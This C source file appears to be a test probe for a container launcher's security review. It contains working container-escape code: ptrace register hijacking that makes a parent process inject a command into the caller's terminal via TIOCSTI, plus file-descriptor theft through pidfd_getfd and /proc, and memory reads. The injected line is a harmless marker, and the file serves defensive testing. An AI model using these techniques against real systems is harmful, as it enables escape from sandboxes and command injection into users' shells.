/* launch_probe: the attacker inside a container launched by nsexplorer-helper.
 *
 * Tries what a hostile payload did in the helper's security review against every process above it
 * that it can see (PID 1 — the reaper —, its parent and every ancestor up to the top of its PID
 * namespace — the supervisor when there is no new one):
 *   - PTRACE_SEIZE and, when that works, making the process call ioctl(0, TIOCSTI) byte by byte
 *     with "echo NSX-INJECTED" and a newline (the review's line ran in the caller's shell);
 *   - taking its fds with pidfd_getfd, reading the entries of /proc/PID/fd (and opening each entry:
 * the caller's terminal, an inherited directory from outside the new root), /proc/PID/root,
 * cwd, map_files, environ, mem and auxv, and its memory with process_vm_readv;
 *   - a directory on its own stdin, stdout or stderr (a way out of --root, as fd 7 was), or an
 *     O_PATH descriptor there, reopened through /proc (the caller's terminal, past the relay);
 *   - TIOCSTI on every terminal it holds or can open (its own fds, /dev/tty, the fds above),
 *     unless that terminal is its own controlling terminal (the helper's relay pty, typing into
 *     which reaches only itself).
 * "launch_probe cat FILE" prints FILE (which root the payload got, for the --root race).
 * argv[1]: st_rdev of the caller's terminal (0 when there is none); holding it at all counts.
 * Prints one "ESCAPE ..." line per success and "probe-done" at the end; exit status 0.
 * Static, so that it runs inside a bare --root directory. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

static unsigned long long callerTty;
static int ownTty; /* tty_nr of our session (field 7 of /proc/self/stat) */
static int escapes;

static int statField(pid_t pid, int field, long long* out)
{
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE* f = fopen(path, "re");
    if (!f)
        return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = 0;
    char* p = strrchr(buf, ')');
    if (!p)
        return -1;
    p += 2; /* field 3 starts here */
    for (int i = 3; i < field; ++i) {
        p = strchr(p, ' ');
        if (!p)
            return -1;
        ++p;
    }
    *out = strtoll(p, NULL, 10);
    return 0;
}

static void escape(const char* fmt, const char* a, long b, const char* c)
{
    printf("ESCAPE ");
    printf(fmt, a, b, c);
    printf("\n");
    fflush(stdout);
    ++escapes;
}

/* A terminal fd: holding the caller's is an escape; TIOCSTI into any terminal other than our
 * own controlling one is one too. */
static void tryTerminal(int fd, const char* where)
{
    if (!isatty(fd))
        return;
    /* The terminal's own number (st_rdev of /dev/tty is 5:0 whatever it stands for). */
    unsigned int dev = 0;
    if (ioctl(fd, TIOCGDEV, &dev) != 0)
        return;
    if (callerTty && dev == callerTty)
        escape("holds-caller-tty %s fd=%ld%s", where, fd, "");
    const char c = '#';
    if ((int)dev != ownTty && ioctl(fd, TIOCSTI, &c) == 0)
        escape("tiocsti %s fd=%ld%s", where, fd, "");
}

/* What the review did once PTRACE_SEIZE worked: make the process call ioctl(0, TIOCSTI, &c) for
 * each byte of a command line. Its fd 0 was the caller's terminal, and its controlling terminal,
 * so the line landed in the caller's shell. x86-64: the process sits in a system call (sigwait,
 * poll), so the two bytes before its instruction pointer are a `syscall` to reuse. Returns the
 * number of bytes the kernel took. */
static int injectLine(pid_t pid, const char* line)
{
#if defined(__x86_64__)
    int status;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 || waitpid(pid, &status, __WALL) != pid)
        return 0;
    struct user_regs_struct saved, regs;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) != 0)
        return 0;
    errno = 0;
    const long text = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
    if (errno || (text & 0xffff) != 0x050f)
        return 0;
    const unsigned long long scratch = (saved.rsp - 1024) & ~7ULL; /* below the red zone */
    const long keep = ptrace(PTRACE_PEEKDATA, pid, scratch, 0);
    int taken = 0;
    for (const char* c = line; *c; ++c) {
        if (ptrace(PTRACE_POKEDATA, pid, scratch, (long)(unsigned char)*c) != 0)
            break;
        regs = saved;
        regs.rip = saved.rip - 2;
        regs.orig_rax = (unsigned long long)-1; /* no restart of the interrupted call */
        regs.rax = SYS_ioctl;
        regs.rdi = 0;
        regs.rsi = TIOCSTI;
        regs.rdx = scratch;
        if (ptrace(PTRACE_SETREGS, pid, 0, &regs) != 0 ||
            ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0 || waitpid(pid, &status, __WALL) != pid ||
            ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0)
            break;
        if (regs.rax == 0)
            ++taken;
    }
    ptrace(PTRACE_POKEDATA, pid, scratch, keep);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return taken;
#else
    (void)pid;
    (void)line;
    return 0;
#endif
}

static void probeProcess(pid_t pid)
{
    char path[128], target[PATH_MAX], comm[64] = "?";
    snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
    FILE* f = fopen(path, "re");
    if (f) {
        if (fgets(comm, sizeof comm, f))
            comm[strcspn(comm, "\n")] = 0;
        fclose(f);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        escape("ptrace-seize %s pid=%ld%s", comm, pid, "");
        /* The marker is assembled here so that it appears nowhere unless typed. */
        char line[64];
        snprintf(line, sizeof line, "echo NSX%s%s\n", "-INJ", "ECTED");
        const int taken = injectLine(pid, line);
        if (taken > 0) {
            char what[32];
            snprintf(what, sizeof what, "%d bytes", taken);
            escape("tiocsti-through %s pid=%ld %s", comm, pid, what);
        }
    }
    /* The other way to take a process's fds: pidfd_getfd (needs the same access as ptrace). */
    const int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd >= 0) {
        for (int n = 0; n < 64; ++n) {
            const int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
            if (fd < 0)
                continue;
            char what[96];
            snprintf(what, sizeof what, "%s fd %d", comm, n);
            escape("pidfd-getfd %s pid=%ld%s", what, pid, "");
            tryTerminal(fd, what);
            close(fd);
        }
        close(pidfd);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", (int)pid);
    DIR* d = opendir(path);
    if (d) {
        struct dirent* e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.')
                continue;
            char entry[512];
            snprintf(entry, sizeof entry, "%s/%s", path, e->d_name);
            /* The numbers alone may be listable (the directory's owner); what counts is
             * following one. */
            const ssize_t n = readlink(entry, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            char what[PATH_MAX + 512];
            snprintf(what, sizeof what, "%s fd %s -> %s", comm, e->d_name, target);
            if (n > 0)
                escape("proc-fd-readlink %s pid=%ld%s", what, pid, "");
            const int fd = open(entry, O_RDWR | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);
            if (fd >= 0) {
                escape("proc-fd-opened %s pid=%ld%s", what, pid, "");
                tryTerminal(fd, what);
                close(fd);
            } else {
                const int dfd = open(entry, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                if (dfd >= 0) {
                    DIR* inner = fdopendir(dfd);
                    int count = 0;
                    while (inner && readdir(inner))
                        ++count;
                    if (inner)
                        closedir(inner);
                    escape("proc-fd-dir-listed %s pid=%ld entries=%s", what, pid,
                           count > 2 ? "some" : "none");
                }
            }
        }
        closedir(d);
    }
    snprintf(path, sizeof path, "/proc/%d/root/", (int)pid);
    DIR* r = opendir(path);
    if (r) {
        escape("proc-root %s pid=%ld%s", comm, pid, "");
        closedir(r);
    }
    /* The rest of what ptrace access opens: its working directory (the caller's, or --root seen
     * from outside), its environment, its memory (by file and by process_vm_readv, whose access
     * check comes before the address is looked at: EFAULT means it was allowed). */
    snprintf(path, sizeof path, "/proc/%d/cwd/", (int)pid);
    DIR* c = opendir(path);
    if (c) {
        escape("proc-cwd %s pid=%ld%s", comm, pid, "");
        closedir(c);
    }
    /* map_files may be listable by the directory's owner; opening an entry is what counts. */
    snprintf(path, sizeof path, "/proc/%d/map_files", (int)pid);
    DIR* mf = opendir(path);
    if (mf) {
        struct dirent* e;
        while ((e = readdir(mf))) {
            if (e->d_name[0] == '.')
                continue;
            char entry[512];
            snprintf(entry, sizeof entry, "%s/%s", path, e->d_name);
            const int fd = open(entry, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                escape("proc-map-file %s pid=%ld %s", comm, pid, e->d_name);
                close(fd);
                break;
            }
        }
        closedir(mf);
    }
    static const char* const files[] = {"environ", "mem", "auxv"};
    for (unsigned i = 0; i < sizeof files / sizeof *files; ++i) {
        snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, files[i]);
        const int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            escape("proc-file %s pid=%ld %s", comm, pid, files[i]);
            close(fd);
        }
    }
    char byte;
    struct iovec local = {&byte, 1}, remote = {(void*)0x1000, 1};
    if (syscall(SYS_process_vm_readv, pid, &local, 1UL, &remote, 1UL, 0UL) >= 0 || errno == EFAULT)
        escape("process-vm-readv %s pid=%ld%s", comm, pid, "");
}

int main(int argc, char** argv)
{
    if (argc == 3 && strcmp(argv[1], "cat") == 0) { /* the --root race: which root is this? */
        char buf[256];
        FILE* f = fopen(argv[2], "re");
        size_t n = f ? fread(buf, 1, sizeof buf, f) : 0;
        fwrite(buf, 1, n, stdout);
        return f ? 0 : 1;
    }
    callerTty = argc > 1 ? strtoull(argv[1], NULL, 10) : 0;
    long long v = 0;
    if (statField(getpid(), 7, &v) == 0)
        ownTty = (int)v;
    setvbuf(stdout, NULL, _IOLBF, 0);

    /* Our own fds first (nothing opened yet but stdio). */
    DIR* self = opendir("/proc/self/fd");
    if (self) {
        const int selfFd = dirfd(self);
        struct dirent* e;
        while ((e = readdir(self))) {
            const int fd = atoi(e->d_name);
            if (e->d_name[0] == '.' || fd == selfFd)
                continue;
            char what[64];
            snprintf(what, sizeof what, "own fd %d", fd);
            tryTerminal(fd, what);
            /* A directory on stdin, stdout or stderr is a way out of a new root as much as one on
             * fd 7: openat(fd, "..") walks up the host's tree. */
            struct stat st;
            /* An O_PATH descriptor is no terminal to isatty(), but reopened through /proc it is
             * whatever it names: the caller's terminal, behind the relay's back. */
            const int fl = fcntl(fd, F_GETFL);
            if (fd <= 2 && fl >= 0 && (fl & O_PATH)) {
                char entry[64];
                snprintf(entry, sizeof entry, "/proc/self/fd/%d", fd);
                const int again = open(entry, O_RDWR | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);
                if (again >= 0) {
                    snprintf(what, sizeof what, "own O_PATH fd %d reopened", fd);
                    tryTerminal(again, what);
                    close(again);
                }
            }
            if (fd <= 2 && fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
                char entry[64], target[PATH_MAX];
                snprintf(entry, sizeof entry, "/proc/self/fd/%d", fd);
                const ssize_t n = readlink(entry, target, sizeof target - 1);
                target[n > 0 ? n : 0] = 0;
                escape("stdio-directory %s fd=%ld -> %s", "own", fd, target);
            }
            if (fd > 2) {
                char entry[64], target[PATH_MAX];
                snprintf(entry, sizeof entry, "/proc/self/fd/%d", fd);
                const ssize_t n = readlink(entry, target, sizeof target - 1);
                target[n > 0 ? n : 0] = 0;
                escape("inherited-fd %s fd=%ld -> %s", "own", fd, target);
            }
        }
        closedir(self);
    }
    const int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC | O_NONBLOCK);
    if (tty >= 0) {
        tryTerminal(tty, "/dev/tty");
        close(tty);
    }

    /* PID 1 and every ancestor we can see. */
    pid_t seen[64];
    int nseen = 0;
    if (getpid() != 1)
        seen[nseen++] = 1;
    for (pid_t p = getppid(); p > 1 && nseen < 64;) {
        seen[nseen++] = p;
        if (statField(p, 4, &v) != 0)
            break;
        p = (pid_t)v;
    }
    for (int i = 0; i < nseen; ++i) {
        printf("probe pid=%d\n", (int)seen[i]);
        probeProcess(seen[i]);
    }
    printf("probe-done escapes=%d\n", escapes);
    return 0;
}
